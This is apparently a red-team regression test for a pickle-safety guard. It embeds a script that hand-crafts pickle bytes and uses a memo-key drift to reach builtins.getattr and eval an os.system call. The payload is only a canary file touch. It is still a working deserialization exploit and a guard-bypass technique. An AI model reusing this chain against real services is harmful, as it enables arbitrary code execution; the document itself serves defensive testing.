"""Red-team pass 2, A01 (FAILS on main at the time of writing: the payload runs under enforce).

A reused unpickler whose listed header was written by a Pickler reused across dumps: the header's
BINPUT keys start at 41, so after it the memo holds 18 entries at keys 41..58. The trust scan numbers
a later message's MEMOIZEs from the memo's *length* (18, 19, ...), but the unpickler stores each
MEMOIZE at its memo_len, which stops growing once it reaches the taken key 41 (it overwrites 41 again
and again). So the scanner believes key 49 is one of the message's own strings while the unpickler
still holds the header's `builtins.getattr` there: `BINGET 49` reaches it, naming only `__main__.task`.
"""

import pytest

SCRIPT = r'''
import datetime, hashlib, io, os, pickle, sys, zoneinfo

def task(x):
    return x

def sh(text):
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data

def call(function, *args):
    return function + b"(" + b"".join(args) + b"tR"

buf = io.BytesIO()
writer = pickle.Pickler(buf, protocol=2)
writer.dump(list(range(300)) + [str(i) for i in range(40)])   # an earlier dump of the same Pickler
start = buf.tell()
writer.dump({"when": datetime.datetime(2026, 11, 24, tzinfo=zoneinfo.ZoneInfo("UTC"))})
header = buf.getvalue()[start:]                                # the reviewed, listed header
probe = pickle._Unpickler(io.BytesIO(header))
probe.load()
key = next(k for k, v in probe.memo.items() if v is getattr)
assert key >= len(probe.memo) and key < 256

def message(canary):
    pad = b"".join(sh("pad") + b"\x94" + b"0" for _ in range(key + 1))   # MEMOIZE, POP
    g = b"h" + bytes([key])
    function = sh("__main__") + sh("task") + b"\x93"
    globals_ = call(g, function, sh("__globals__"))
    builtins = call(call(g, globals_, sh("get")), sh("__builtins__"))
    return b"\x80\x04" + pad + call(call(g, builtins, sh("eval")), sh(f"__import__('os').system('touch {canary}')")) + b"."

def serve(stream):
    unpickler = (pickle._Unpickler if sys.argv[2] == "python" else pickle.Unpickler)(stream)
    unpickler.load()
    try:
        unpickler.load()
        print("RAN")
    except Exception as error:
        print(type(error).__name__, error)

with open("policy.toml", "w") as f:
    f.write(f"""version = 1
[[allow]]
sha256 = "{hashlib.sha256(header).hexdigest()}"
callsite = "__main__:serve"

[[trust]]
callsite = "__main__:serve"
globals = ["__main__.task"]
""")
if sys.argv[1] == "guarded":
    import picklegate
    picklegate.install(mode="enforce", policy="policy.toml")
read, write = os.pipe()
os.write(write, header + message(sys.argv[3]))
os.close(write)
with os.fdopen(read, "rb") as stream:
    serve(stream)
'''


@pytest.mark.parametrize("unpickler", ["c", "python"])
def test_a_sparse_memo_does_not_let_memoize_numbering_drift(unpickler, run_python, canary):
    path, _ = canary
    control = run_python(SCRIPT, args=["control", unpickler, str(path)], check=True)
    assert path.exists(), f"the control did not run the payload: {control.stdout}{control.stderr}"
    path.unlink()
    proc = run_python(SCRIPT, args=["guarded", unpickler, str(path)], check=True)
    assert not path.exists(), f"attacker bytes ran under enforce: {proc.stdout}{proc.stderr}"
    assert proc.stdout.startswith("PickleDeniedError"), proc.stdout + proc.stderr
